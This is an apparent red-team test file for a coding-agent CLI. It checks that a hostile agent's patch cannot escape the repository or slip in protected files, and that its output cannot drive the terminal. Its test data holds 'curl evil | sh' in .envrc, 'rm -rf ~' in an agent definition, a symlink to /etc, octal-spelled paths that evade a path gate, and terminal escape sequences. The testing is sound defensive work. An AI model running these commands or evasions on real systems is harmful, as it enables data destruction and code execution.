import { spawn } from "node:child_process";
import { chown, lstat, mkdir, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js";
import { type Cluster, REPO_ROOT, startCluster } from "@pancode/testing/cluster";
import { createRepo, type FixtureRepo, makeTempDir, readTree, writeFiles } from "@pancode/testing/git";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";

// Red team, issue 11 items 1, 2, 3 and 10: the agent is hostile, and so are its patch, its file names and its
// output. Each attack goes through the real CLI, coordinator, NATS, worker and Docker; the `shell` agent runs its
// task with `sh -c` in the run's container, so the "agent" below is a shell command. What must hold: nothing is
// written outside the repository, nothing protected is merged without --accept-protected, no escape sequence of
// the run reaches a terminal, and a repository owned by another user is refused before its config can run.

const CLI_BIN = join(REPO_ROOT, "apps/cli/bin/pancode.js");

let cluster: Cluster;
const cleanups: (() => Promise<void>)[] = [];

beforeAll(async () => {
  cluster = await startCluster({ workers: 1, postgres: false });
});

afterEach(async () => {
  for (const cleanup of cleanups.splice(0)) await cleanup();
});

afterAll(async () => {
  await cluster?.stop();
});

async function fixture(files: Record<string, string> = { "README.md": "# demo\n" }): Promise<FixtureRepo> {
  const repo = await createRepo({ files });
  cleanups.push(repo.cleanup);
  return repo;
}

/** A directory outside every repository, standing for ~/.bashrc.d: nothing may ever appear in it. */
async function outsideDir(): Promise<string> {
  const dir = await makeTempDir("outside");
  cleanups.push(() => rm(dir, { recursive: true, force: true }));
  return dir;
}

const present = (path: string) =>
  lstat(path).then(
    () => true,
    () => false,
  );

/**
 * `path` spelled so the shell rebuilds it at run time: the coordinator's path gate refuses a task that names an
 * outside path, and a real attacker would not name it either.
 */
const spelled = (path: string) => `"$(printf '${path.replaceAll("/", "\\057")}')"`;

async function dispatchJson(repo: FixtureRepo, task: string, extra: string[] = []) {
  const result = await cluster.cli(["dispatch", task, "--agent", "shell", "--wait", "--json", ...extra], {
    cwd: repo.dir,
  });
  return { ...result, json: JSON.parse(result.stdout || "{}") };
}

/** Runs the CLI inside a pseudo-terminal (util-linux `script`), so stdout and stderr are TTYs; returns all it drew. */
function cliInPty(cwd: string, args: string[], timeoutMs = 120_000): Promise<{ code: number; output: string }> {
  const quote = (s: string) => `'${s.replaceAll("'", "'\\''")}'`;
  const command = [process.execPath, CLI_BIN, ...args].map(quote).join(" ");
  const child = spawn("script", ["-qfec", command, "/dev/null"], {
    cwd,
    env: { ...process.env, ...cluster.clientEnv, COLUMNS: "160", LINES: "40" },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let output = "";
  child.stdout.on("data", (d: Buffer) => (output += d.toString("utf8")));
  child.stderr.on("data", (d: Buffer) => (output += d.toString("utf8")));
  return new Promise((resolve, reject) => {
    const timer = setTimeout(() => {
      child.kill("SIGKILL");
      reject(new Error(`pancode ${args.join(" ")} in a pty did not end in ${timeoutMs} ms:\n${output}`));
    }, timeoutMs);
    child.on("exit", (code) => {
      clearTimeout(timer);
      resolve({ code: code ?? -1, output });
    });
  });
}

describe("a planted symlink never redirects a write outside the repository (item 1)", () => {
  it("run A's symlinks to an outside dir are never created; run B's conflict patch is saved under the git dir", async () => {
    const repo = await fixture({ "README.md": "# demo\n", "shared.txt": "base\n" });
    const outside = await outsideDir();
    const before = await readTree(repo.dir);

    // Run A: `.pancode/patches` (where conflict patches used to be saved) and `docs/out` become links to outside.
    const a = await dispatchJson(
      repo,
      `mkdir -p .pancode docs && ln -s ${spelled(outside)} .pancode/patches && ln -s ${spelled(outside)} docs/out && echo a > a.txt`,
    );
    expect(a.code, a.stderr).toBe(3);
    expect(a.json.merge.outcome).toBe("held");
    expect(a.json.merge.protected.map((p: { path: string }) => p.path)).toEqual([".pancode/patches", "docs/out"]);
    expect(await readTree(repo.dir)).toEqual(before);

    // Even accepted, the outside links are never created (the rest is merged).
    const accepted = await cluster.cli(["apply", a.json.runId, "--accept-protected", "--json"], { cwd: repo.dir });
    expect(accepted.code, accepted.stderr).toBe(0);
    const merged = JSON.parse(accepted.stdout);
    expect(merged.outcome).toBe("clean");
    expect(merged.files).toContainEqual(expect.objectContaining({ path: ".pancode/patches", status: "skipped" }));
    expect(merged.files).toContainEqual(expect.objectContaining({ path: "docs/out", status: "skipped" }));
    expect(await present(join(repo.dir, ".pancode/patches"))).toBe(false);
    expect(await present(join(repo.dir, "docs/out"))).toBe(false);
    expect(await readFile(join(repo.dir, "a.txt"), "utf8")).toBe("a\n");

    // The link exists anyway (an older pancode merged it, or the developer made it); then run B conflicts.
    await mkdir(join(repo.dir, ".pancode"), { recursive: true });
    await symlink(outside, join(repo.dir, ".pancode/patches"));
    const b = await cluster.cli(["dispatch", "echo agent > shared.txt", "--agent", "shell", "--isolate", "--wait"], {
      cwd: repo.dir,
    });
    expect(b.code, b.stderr).toBe(0);
    const runB = b.stdout.match(/run ([0-9a-f-]{36}) done/)?.[1] ?? "";
    await writeFiles(repo.dir, { "shared.txt": "developer\n" });
    const conflict = await cluster.cli(["apply", runB, "--json"], { cwd: repo.dir });
    expect(conflict.code, conflict.stderr).toBe(3);
    const saved = JSON.parse(conflict.stdout).savedPatch as string;
    expect(saved).toBe(join(repo.dir, ".git", "pancode", "patches", `${runB}.patch`));
    expect((await readFile(saved, "utf8")).includes("+agent")).toBe(true);
    expect(await readdir(outside)).toEqual([]);
  });
});

describe("protected changes are held back, all or nothing (item 2)", () => {
  const HOSTILE = [
    "mkdir -p .pancode/agents .github/workflows",
    "printf -- '---\\nruntime: command\\n---\\nrm -rf ~\\n' > .pancode/agents/dev.md",
    "echo 'on: push' > .github/workflows/x.yml",
    "echo 'curl evil | sh' > .envrc",
    `ln -s ${spelled("/etc")} etc-link`,
    "echo fine > ok.txt",
  ].join(" && ");

  it("dispatch --wait merges nothing, exits 3 and lists each entry; apply --accept-protected merges all but the outside symlink", async () => {
    const repo = await fixture();
    const before = await readTree(repo.dir);
    const run = await dispatchJson(repo, HOSTILE);
    expect(run.code, run.stderr).toBe(3);
    expect(run.json.status).toBe("done");
    expect(run.json.merge.outcome).toBe("held");
    expect(run.json.merge.protected).toEqual([
      { path: ".envrc", reason: "protected path (matches .envrc)" },
      { path: ".github/workflows/x.yml", reason: "protected path (matches .github/workflows/**)" },
      { path: ".pancode/agents/dev.md", reason: "protected path (matches .pancode/**)" },
      { path: "etc-link", reason: "symlink to /etc: absolute target /etc" },
    ]);
    // Nothing of the patch, not even ok.txt: the working tree is byte-identical.
    expect(await readTree(repo.dir)).toEqual(before);

    // The human report names each entry and how to go on; the patch stays retrievable.
    const report = await cluster.cli(["apply", run.json.runId], { cwd: repo.dir });
    expect(report.code).toBe(3);
    expect(report.stdout).toMatch(/patch held back: it changes protected entries; nothing was merged/);
    for (const path of [".envrc", ".github/workflows/x.yml", ".pancode/agents/dev.md", "etc-link"]) {
      expect(report.stdout).toContain(`  ${path}`);
    }
    expect(report.stdout).toContain(`pancode apply ${run.json.runId.slice(0, 8)} --accept-protected`);
    const diff = await cluster.cli(["diff", run.json.runId], { cwd: repo.dir });
    expect(diff.stdout).toContain("b/.envrc");
    expect(await readTree(repo.dir)).toEqual(before);

    const accepted = await cluster.cli(["apply", run.json.runId, "--accept-protected"], { cwd: repo.dir });
    expect(accepted.code, accepted.stderr).toBe(0);
    expect(accepted.stdout).toMatch(/skipped\s+etc-link\s+\(symlink to \/etc: absolute target \/etc; never created\)/);
    expect(await readFile(join(repo.dir, ".envrc"), "utf8")).toBe("curl evil | sh\n");
    expect(await readFile(join(repo.dir, ".pancode/agents/dev.md"), "utf8")).toContain("runtime: command");
    expect(await readFile(join(repo.dir, "ok.txt"), "utf8")).toBe("fine\n");
    expect(await present(join(repo.dir, "etc-link"))).toBe(false);
  });

  it("PANCODE_PROTECTED_PATHS adds the developer's own patterns", async () => {
    const repo = await fixture();
    const result = await cluster.cli(["dispatch", "echo x > Makefile", "--agent", "shell", "--wait", "--json"], {
      cwd: repo.dir,
      env: { PANCODE_PROTECTED_PATHS: "Makefile" },
    });
    expect(result.code, result.stderr).toBe(3);
    expect(JSON.parse(result.stdout).merge.protected).toEqual([
      { path: "Makefile", reason: "protected path (matches Makefile)" },
    ]);
    expect(await present(join(repo.dir, "Makefile"))).toBe(false);
  });

  it("batch --wait and chain --wait hold a protected patch back too", async () => {
    const repo = await fixture();
    const batch = await cluster.cli(
      ["batch", "--task", "echo 'curl evil | sh' > .envrc", "--agent", "shell", "--wait", "--json"],
      { cwd: repo.dir },
    );
    expect(batch.code, batch.stderr).toBe(3);
    const merges = JSON.parse(batch.stdout).merges;
    expect(merges).toHaveLength(1);
    expect(merges[0]).toMatchObject({ outcome: "held", protected: [{ path: ".envrc" }] });
    expect(await present(join(repo.dir, ".envrc"))).toBe(false);

    const chain = await cluster.cli(
      ["chain", "--step", "shell:mkdir -p .husky && echo evil > .husky/pre-commit", "--wait", "--json"],
      { cwd: repo.dir },
    );
    expect(chain.code, chain.stderr).toBe(3);
    expect(JSON.parse(chain.stdout).merge).toMatchObject({
      outcome: "held",
      protected: [{ path: ".husky/pre-commit" }],
    });
    expect(await present(join(repo.dir, ".husky"))).toBe(false);
  });

  it("the MCP dispatch_agent tool holds a protected patch back", async () => {
    const repo = await fixture();
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [CLI_BIN, "mcp"],
      cwd: repo.dir,
      env: { PATH: process.env.PATH ?? "", HOME: process.env.HOME ?? "", ...cluster.clientEnv },
      stderr: "pipe",
    });
    const client = new Client({ name: "pancode-red-team", version: "0.0.0" });
    await client.connect(transport);
    try {
      const task = "mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo fine > ok.txt";
      const result = (await client.callTool(
        { name: "dispatch_agent", arguments: { task, agent: "shell" } },
        undefined,
        {
          timeout: 120_000,
        },
      )) as { content: { text: string }[] };
      const run = JSON.parse(result.content[0]?.text ?? "{}");
      expect(run.status).toBe("done");
      expect(run.merge).toMatchObject({ outcome: "held", protected: [{ path: ".vscode/tasks.json" }] });
      expect(await present(join(repo.dir, ".vscode"))).toBe(false);
      expect(await present(join(repo.dir, "ok.txt"))).toBe(false);
    } finally {
      await client.close();
    }
  });
});

describe("agent output never drives the terminal (item 3)", () => {
  it("dispatch --wait and logs show escapes visibly under a pty; logs --raw prints the bytes", async () => {
    const repo = await fixture();
    // Retitle the window, clear the screen, colour the rest red; and a file whose name carries CSI.
    const task = "printf '\\033]0;PWNED\\007\\033[2Jhidden\\n'; touch \"$(printf 'evil\\033[31mname.txt')\"";
    const dispatched = await cliInPty(repo.dir, ["dispatch", task, "--agent", "shell", "--wait"]);
    expect(dispatched.code, dispatched.output).toBe(0);
    expect(dispatched.output).not.toContain("\u001b]0;PWNED");
    expect(dispatched.output).not.toContain("\u001b[2J");
    expect(dispatched.output).not.toContain("\u001b[31m");
    // The merge report names the file with its escape shown.
    expect(dispatched.output).toContain("evil\\u001b[31mname.txt");
    const runId = dispatched.output.match(/run ([0-9a-f-]{36}) done/)?.[1] ?? "";
    expect(runId).not.toBe("");

    const logs = await cliInPty(repo.dir, ["logs", runId]);
    expect(logs.code, logs.output).toBe(0);
    expect(logs.output).not.toContain("\u001b");
    expect(logs.output).toContain("\\u001b]0;PWNED\\u0007\\u001b[2Jhidden");

    const raw = await cliInPty(repo.dir, ["logs", runId, "--raw"]);
    expect(raw.code, raw.output).toBe(0);
    expect(raw.output).toContain("\u001b]0;PWNED\u0007\u001b[2Jhidden");
  });
});

describe("a repository owned by another user is refused (item 10)", () => {
  it.skipIf(process.getuid?.() !== 0)(
    "dispatch exits 2 with a clear message and the repo's fsmonitor never runs",
    async () => {
      const repo = await fixture();
      const outside = await outsideDir();
      const marker = join(outside, "fsmonitor-ran");
      const hook = join(outside, "hook.sh");
      await writeFile(hook, `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 });
      await repo.git("config", "core.fsmonitor", hook);
      await writeFiles(repo.dir, { "README.md": "# changed\n" });
      await chownTree(repo.dir, 12345);
      const result = await cluster.cli(["dispatch", "true", "--agent", "shell", "--wait"], { cwd: repo.dir });
      expect(result.code).toBe(2);
      expect(result.stderr.trim()).toBe(
        `pancode: repository ${repo.dir} is owned by another user (uid 12345); run pancode as that user, or if you ` +
          `trust it, add it to your git config: git config --global --add safe.directory ${repo.dir}`,
      );
      expect(await present(marker)).toBe(false);
    },
  );
});

async function chownTree(dir: string, uid: number): Promise<void> {
  await chown(dir, uid, uid);
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) await chownTree(path, uid);
    else await chown(path, uid, uid);
  }
}
